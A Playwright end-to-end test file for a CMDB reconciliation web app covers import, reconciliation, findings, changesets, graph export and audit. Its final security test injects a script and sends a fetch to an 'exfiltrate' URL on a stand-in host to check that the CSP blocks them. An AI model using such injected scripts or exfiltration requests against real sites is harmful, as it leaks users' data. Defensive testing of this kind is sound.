/**
 * The whole workflow in browser mode, against a real `cmdbw serve` and real Chromium: a workspace, the six
 * files of a cmdb-sim estate imported through the wizard, reconciliation, sources, the CI grid and a CI's
 * detail, findings, the changeset flow, the dependency graph with exports, the
 * quality dashboard and the audit log, the dark theme and the keyboard. Every step asserts on what the page
 * shows and saves a screenshot under test-results/e2e/. The suite fails on any console error, uncaught
 * exception or CSP violation.
 *
 * Readiness is explicit (data-app-state / data-state attributes), never a sleep.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser, Download, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import {
  cmdbw,
  generateEstate,
  launch,
  openPage,
  screenshotPath,
  serve,
  simFiles,
  tempDir,
  type Problems,
  type Served,
} from './harness.js';

const T = 60_000;

let tmp: ReturnType<typeof tempDir>;
let estate: string;
let stats: { cmdb_records: number; relationships: number; nmap_hosts: number; rvtools_rows: number; glpi_docs: number; aws_instances: number };
let served: Served;
let browser: Browser;
let page: Page;
let problems: Problems;
let shot = 0;

async function snap(name: string): Promise<void> {
  shot++;
  await page.screenshot({ path: screenshotPath(`${String(shot).padStart(2, '0')}-${name}`) });
}

async function ready(testid: string): Promise<void> {
  await page.waitForSelector(`[data-testid="${testid}"][data-state="ready"]`, { timeout: T });
}

async function go(nav: string, screen: string): Promise<void> {
  await page.click(`[data-testid="${nav}"]`);
  await ready(screen);
}

async function saveDownload(d: Download, name: string): Promise<string> {
  const file = path.join(tmp.dir, 'downloads', name);
  await d.saveAs(file);
  return file;
}

/** A grid cell by row index and column id (AG Grid renders pinned and centre parts as separate rows). */
function cell(row: number, col: string) {
  return page.locator(`.ag-row[row-index="${row}"] .ag-cell[col-id="${col}"]`).first();
}

function num(text: string | null): number {
  return Number((text ?? '').replace(/[^\d]/g, ''));
}

describe('CMDB Workbench in the browser (cmdbw serve)', () => {
  beforeAll(async () => {
    tmp = tempDir('cmdbw-e2e-');
    estate = path.join(tmp.dir, 'estate');
    stats = generateEstate(estate, 300, 5) as typeof stats;
    // Browser mode serves one workspace: it is created with the CLI (the UI offers New/Open only in the desktop app).
    const ws = path.join(tmp.dir, 'e2e.cmdbw');
    cmdbw(['init', ws]);
    served = await serve(ws);
    browser = await launch();
    ({ page, problems } = await openPage(browser));
  });

  // Fail the step that caused it: any console error, uncaught exception or CSP violation so far.
  afterEach(() => {
    expect(problems.csp, 'CSP violations').toEqual([]);
    expect(problems.page, 'uncaught exceptions').toEqual([]);
    expect(problems.console, 'console errors').toEqual([]);
  });

  afterAll(async () => {
    await browser?.close();
    await served?.stop();
    tmp?.remove();
  });

  test('start: the served workspace opens, with the browser-mode note and an empty overview', async () => {
    await page.goto(served.url);
    await page.waitForSelector('html[data-app-state="ready"]', { timeout: T });
    await ready('screen-start');
    // The token left the address bar as soon as the app read it.
    expect(page.url()).not.toContain('token=');
    await expect(page.locator('[data-testid="topbar-workspace"]').innerText()).resolves.toContain('e2e');
    await expect(page.locator('[data-testid="browser-mode-note"]').isVisible()).resolves.toBe(true);
    await expect(page.locator('[data-testid="stat-cis"]').innerText()).resolves.toContain('not reconciled yet');
    await snap('start-empty-workspace');
  });

  test('import: six cmdb-sim files, formats detected, a preview, one batch per format', async () => {
    await page.click('[data-testid="nav-import"]');
    await ready('screen-import');
    const chooser = page.waitForEvent('filechooser');
    await page.click('[data-testid="import-choose"]');
    await (await chooser).setFiles(simFiles(estate));
    await page.waitForSelector('[data-testid="batch-card"]', { timeout: T });
    const formats = await page.locator('[data-testid="batch-card"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-format')));
    expect(formats.sort()).toEqual(['aws-ec2', 'glpi-inventory', 'nmap-xml', 'rvtools-vinfo', 'servicenow-ci', 'servicenow-rel']);
    const sources = await page.locator('[data-testid="batch-source"]').evaluateAll((els) => els.map((e) => (e as HTMLInputElement).value));
    expect(new Set(sources)).toEqual(new Set(['servicenow', 'nmap', 'rvtools', 'glpi', 'aws']));
    // The CMDB export comes first, and its preview is the papaparse view of the first rows.
    await expect(page.locator('[data-testid="detected-format"]').innerText()).resolves.toBe('ServiceNow CMDB CIs');
    const header = await page.locator('[data-testid="preview-table"] thead').innerText();
    expect(header).toContain('sys_id');
    expect(await page.locator('[data-testid="preview-table"] tbody tr').count()).toBeGreaterThan(3);
    await snap('import-review');

    await page.click('[data-testid="import-start"]');
    await page.waitForSelector('[data-testid="after-import"]', { timeout: 120_000 });
    const rows = page.locator('[data-testid="import-outcome"]');
    expect(await rows.count()).toBe(6);
    expect(await rows.evaluateAll((els) => els.map((e) => e.getAttribute('data-status')))).toEqual(Array(6).fill('done'));
    const byText = async (needle: string) => (await rows.filter({ hasText: needle }).first().innerText()).replace(/,/g, '');
    expect(await byText('nmap-scan.xml')).toContain(String(stats.nmap_hosts));
    expect(await byText('cmdb_ci.csv')).toContain(String(stats.cmdb_records));
    expect(await byText('cmdb_rel_ci.csv')).toContain(String(stats.relationships));
    expect(await byText('aws-ec2-describe-instances.json')).toContain(String(stats.aws_instances));
    await snap('import-result');
  });

  test('reconcile from the import result', async () => {
    await page.click('[data-testid="import-reconcile"]');
    await page.waitForSelector('[data-testid="reconcile-done"]', { timeout: 120_000 });
    const text = await page.locator('[data-testid="reconcile-done"]').innerText();
    expect(text).toMatch(/records → [\d,]+ CIs, [\d,]+ findings/);
    await snap('reconciled');
  });

  test('sources: per-source records, coverage and batches', async () => {
    await go('nav-sources', 'screen-sources');
    const rows = page.locator('[data-testid="source-row"]');
    expect(await rows.count()).toBe(5);
    const servicenow = rows.filter({ hasText: 'servicenow' });
    expect((await servicenow.innerText()).replace(/,/g, '')).toContain(String(stats.cmdb_records));
    // Coverage is computed from the CI grid: wait for the percentages.
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="source-row"] .coverage').length === 5, null, { timeout: T });
    await servicenow.getByRole('button', { name: /Show batches/ }).click();
    expect(await page.locator('[data-testid="batches-table"] tbody tr').count()).toBe(2);
    await snap('sources');
  });

  let ciName = '';
  test('CI grid: server-side paging, search, CSV export of the view, open a CI', async () => {
    await go('nav-cis', 'screen-cis');
    await page.waitForSelector('[data-testid="grid-cis"][data-state="ready"]', { timeout: T });
    const total = num(await page.locator('[data-testid="grid-cis"]').getAttribute('data-total'));
    expect(total).toBeGreaterThan(300);
    await expect(page.locator('[data-testid="ci-count"]').innerText()).resolves.toMatch(/golden CIs/);
    await snap('ci-grid');

    // Search runs in SQL: pick a name from row 3 and expect the count to shrink to the matches.
    ciName = (await cell(3, 'name').innerText()).trim();
    expect(ciName.length).toBeGreaterThan(0);
    await page.fill('[data-testid="ci-search"]', ciName);
    await page.waitForFunction((n) => Number(document.querySelector('[data-testid="grid-cis"]')?.getAttribute('data-total')) < n, total, { timeout: T });
    await expect(page.locator('[data-testid="ci-count"]').innerText()).resolves.toContain('matching');
    await expect(page.locator('[data-testid="filter-bar"]').innerText()).resolves.toContain(ciName);

    // Export the current view: browser mode saves on the server and downloads the file.
    const dl = page.waitForEvent('download', { timeout: T });
    await page.click('[data-testid="ci-export-csv"]');
    const csv = readFileSync(await saveDownload(await dl, 'cis.csv'), 'utf8');
    expect(csv.split(/\r?\n/).filter(Boolean).length).toBeGreaterThanOrEqual(2);
    expect(csv).toContain(ciName);
    await page.waitForSelector('[data-testid="toast-success"]', { timeout: T });

    // Enter opens the focused row.
    await cell(0, 'name').click();
    await page.keyboard.press('Enter');
    await ready('screen-ci');
    await expect(page.locator('[data-testid="ci-name"]').innerText()).resolves.toBe(ciName);
    expect(await page.locator('[data-testid="value-row"]').count()).toBeGreaterThan(2);
    await expect(page.locator('[data-testid="values-table"] thead').innerText()).resolves.toContain('Golden value');
    await snap('ci-detail-values');
    await page.click('[data-testid="tab-matches"]');
    await snap('ci-detail-match-evidence');
  });

  let findingSummary = '';
  test('findings: facets by category and severity, open a finding with its evidence', async () => {
    await go('nav-findings', 'screen-findings');
    await page.waitForSelector('[data-testid="finding-facets"]', { timeout: T });
    const all = num(await page.locator('[data-testid="grid-findings"]').getAttribute('data-total'));
    expect(all).toBeGreaterThan(50);
    await page.click('[data-testid="facet-attribute_conflict"]');
    await page.waitForFunction((n) => {
      const t = Number(document.querySelector('[data-testid="grid-findings"]')?.getAttribute('data-total'));
      return t > 0 && t < n;
    }, all, { timeout: T });
    expect(page.url()).toContain('category=attribute_conflict');
    await expect(cell(0, 'category').innerText()).resolves.toBe('Attribute conflict');
    await cell(0, 'summary').dblclick();
    await page.waitForSelector('[data-testid="finding-panel"]', { timeout: T });
    findingSummary = (await page.locator('[data-testid="finding-title"]').innerText()).trim();
    expect(findingSummary.length).toBeGreaterThan(5);
    await page.waitForSelector('[data-testid="finding-panel"] [data-testid="evidence"]', { timeout: T });
    await snap('finding-open');
  });

  test('changeset: accept the finding, review its item, validate, approve, export for ServiceNow', async () => {
    await page.waitForSelector('[data-testid="nav-changesets"]', { timeout: T });
    await page.click('[data-testid="accept-one"]');
    await page.waitForSelector('[data-testid="accept-dialog"]');
    await page.fill('[data-testid="changeset-name"]', 'E2E review');
    await page.click('[data-testid="accept-confirm"]');
    await ready('screen-changeset');
    await expect(page.locator('[data-testid="changeset-title"]').innerText()).resolves.toBe('E2E review');
    await expect(page.locator('[data-testid="changeset-state"]').innerText()).resolves.toBe('draft');
    // One finding accepted: one item, pending review.
    await expect(page.locator('[data-testid="changeset-counts"]').innerText()).resolves.toMatch(/^1 items · 1 pending/);
    await cell(0, 'summary').dblclick();
    await page.waitForSelector('[data-testid="item-diff"]', { timeout: T });
    // The attribute conflict becomes an update: the CMDB's value now, and the winning value to write.
    const after = (await page.locator('[data-testid="item-diff"] tbody td.diff-after').first().innerText()).trim();
    const before = (await page.locator('[data-testid="item-diff"] tbody td.diff-before').first().innerText()).trim();
    expect(after.length).toBeGreaterThan(0);
    expect(after).not.toBe(before);
    await snap('changeset-item');
    await page.click('[data-testid="item-accept"]');
    await page.waitForFunction(() => document.querySelector('[data-testid="item-status"]')?.textContent === 'Accepted', null, { timeout: T });
    await page.waitForFunction(() => /0 pending · 1 accepted/.test(document.querySelector('[data-testid="changeset-counts"]')?.textContent ?? ''), null, { timeout: T });
    await page.click('[data-testid="changeset-validate"]');
    await page.waitForSelector('[data-testid="validation-ok"]', { timeout: T });
    await page.click('[data-testid="changeset-approve"]');
    await page.waitForFunction(() => document.querySelector('[data-testid="changeset-state"]')?.textContent === 'approved', null, { timeout: T });
    // Export for ServiceNow's IRE (the dialog's default): several files, downloaded as one tar archive.
    await page.click('[data-testid="changeset-export"]');
    await page.waitForSelector('[data-testid="export-dialog"]');
    const dl = page.waitForEvent('download', { timeout: T });
    await page.click('[data-testid="export-confirm"]');
    const download = await dl;
    expect(download.suggestedFilename()).toMatch(/\.tar$/);
    const tar = readFileSync(await saveDownload(download, 'changeset-ire.tar')).toString('utf8');
    await page.waitForSelector('[data-testid="export-result"]', { timeout: T });
    const result = await page.locator('[data-testid="export-result"]').innerText();
    expect(result).toMatch(/Exported 1 items to \d+ files/);
    for (const name of ['ire/payload-0001.json', 'manifest.json']) {
      expect(result).toContain(name);
      expect(tar).toContain(name);
    }
    // The payload carries the accepted value.
    expect(tar).toContain(JSON.stringify(after).slice(1, -1));
    await snap('changeset-exported');
    await page.click('[data-testid="export-close"]');
  });

  test('graph: the neighbourhood of a CI, layouts, PNG and SVG export', async () => {
    await page.evaluate(() => (location.hash = '#/findings?category=relationship_conflict'));
    await ready('screen-findings');
    await page.waitForFunction(() => Number(document.querySelector('[data-testid="grid-findings"]')?.getAttribute('data-total')) > 0, null, { timeout: T });
    await cell(0, 'summary').dblclick();
    await page.waitForSelector('[data-testid="finding-panel"]', { timeout: T });
    await page.getByRole('button', { name: 'Graph' }).click();
    await page.waitForSelector('[data-testid="graph-canvas"][data-layout="done"]', { timeout: T });
    const nodes = num(await page.locator('[data-testid="graph-canvas"]').getAttribute('data-nodes'));
    const edges = num(await page.locator('[data-testid="graph-canvas"]').getAttribute('data-edges'));
    expect(nodes).toBeGreaterThanOrEqual(2);
    expect(edges).toBeGreaterThanOrEqual(1);
    const summary = await page.locator('[data-testid="graph-summary"]').innerText();
    expect(summary).toContain(`${nodes} CIs`);
    expect(summary).toMatch(/in conflict|CMDB-only|discovery-only/);
    await snap('graph-fcose');

    await page.click('[data-testid="graph-layout-dagre"]');
    await page.waitForSelector('[data-testid="graph-canvas"][data-layout="done"]', { timeout: T });
    await page.selectOption('[data-testid="graph-hops"]', '3');
    await page.waitForSelector('[data-testid="graph-canvas"][data-layout="done"]', { timeout: T });
    await snap('graph-dagre-3-hops');

    const svgDl = page.waitForEvent('download', { timeout: T });
    await page.click('[data-testid="graph-export-svg"]');
    const svg = readFileSync(await saveDownload(await svgDl, 'graph.svg'), 'utf8');
    expect(svg).toContain('<svg');
    expect((svg.match(/<g data-id=/g) ?? []).length).toBeGreaterThanOrEqual(nodes);

    const pngDl = page.waitForEvent('download', { timeout: T });
    await page.click('[data-testid="graph-export-png"]');
    const png = readFileSync(await saveDownload(await pngDl, 'graph.png'));
    expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');

    // Click the root CI: the side panel offers impact highlighting and the way back to the CI.
    await page.click('[data-testid="graph-layout-fcose"]');
    await page.waitForSelector('[data-testid="graph-canvas"][data-layout="done"]', { timeout: T });
  });

  test('quality dashboard and the verified audit log', async () => {
    await go('nav-quality', 'screen-quality');
    for (const id of ['chart-by-type', 'chart-by-source', 'chart-components', 'chart-batches', 'chart-findings'])
      await expect(page.locator(`[data-testid="${id}"]`).isVisible(), id).resolves.toBe(true);
    expect(num(await page.locator('[data-testid="quality-overall"] .stat-value').innerText())).toBeGreaterThan(0);
    await snap('quality');

    await go('nav-audit', 'screen-audit');
    await expect(page.locator('[data-testid="audit-count"]').innerText()).resolves.toMatch(/[\d,]+ entries/);
    await expect(page.locator('[data-testid="grid-audit"]').innerText()).resolves.toMatch(/import|reconcile/);
    await page.click('[data-testid="audit-verify"]');
    await page.waitForSelector('[data-testid="audit-verify-ok"]', { timeout: T });
    await snap('audit-log');
  });

  test('dark theme and keyboard navigation', async () => {
    await page.click('[data-testid="theme-toggle"]');
    await page.waitForSelector('html[data-theme="dark"]');
    await page.keyboard.press('Control+k');
    await page.waitForSelector('[data-testid="command-palette"]');
    await page.keyboard.type('cis');
    await page.keyboard.press('Enter');
    await ready('screen-cis');
    await page.waitForSelector('[data-testid="grid-cis"][data-state="ready"]', { timeout: T });
    await snap('ci-grid-dark');
    // G then F: findings; "?" lists the shortcuts; Escape closes.
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('g');
    await page.keyboard.press('f');
    await ready('screen-findings');
    await page.keyboard.press('?');
    await page.waitForSelector('[data-testid="shortcuts-dialog"]');
    await snap('findings-dark-shortcuts');
    await page.keyboard.press('Escape');
    await page.waitForSelector('[data-testid="shortcuts-dialog"]', { state: 'detached' });
    await go('nav-graph', 'screen-graph');
    await page.waitForSelector('[data-testid="graph-pick"]', { timeout: T });
    await page.locator('[data-testid="graph-pick"]').first().click();
    await page.waitForSelector('[data-testid="graph-canvas"][data-layout="done"]', { timeout: T });
    await snap('graph-dark');
    await page.click('[data-testid="theme-toggle"]');
    await page.waitForSelector('html[data-theme="light"]');
  });

  test('security: no Node in the page; the CSP blocks injected scripts and requests to other origins', async () => {
    expect(await page.evaluate(() => ['require', 'process', 'module', 'Buffer'].filter((k) => k in window))).toEqual([]);
    const outcome = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true';
      document.body.appendChild(s);
      let fetched = 'sent';
      try {
        await fetch('https://example.com/exfiltrate');
      } catch (e) {
        fetched = (e as Error).name;
      }
      return { injected: (window as unknown as Record<string, unknown>).__injected === true, fetched };
    });
    expect(outcome).toEqual({ injected: false, fetched: 'TypeError' });
    const reported = () => [...problems.csp, ...problems.console].join('\n');
    await expect.poll(() => problems.csp.length, { timeout: T }).toBe(2);
    await expect.poll(reported, { timeout: T }).toMatch(/Refused to connect/);
    expect(problems.csp.join('\n')).toMatch(/script-src/);
    expect(problems.csp.join('\n')).toMatch(/connect-src/);
    // Chromium's own console lines for the two blocked actions; the next step checks there are no others.
    expect(problems.console).toHaveLength(3);
    expect(problems.console.every((m) => /Content Security Policy/.test(m))).toBe(true);
    problems.csp.length = 0;
    problems.console.length = 0;
  });

  test('no console errors, uncaught exceptions or CSP violations', () => {
    expect(problems.csp, 'CSP violations').toEqual([]);
    expect(problems.page, 'uncaught exceptions').toEqual([]);
    expect(problems.console, 'console errors').toEqual([]);
  });
});
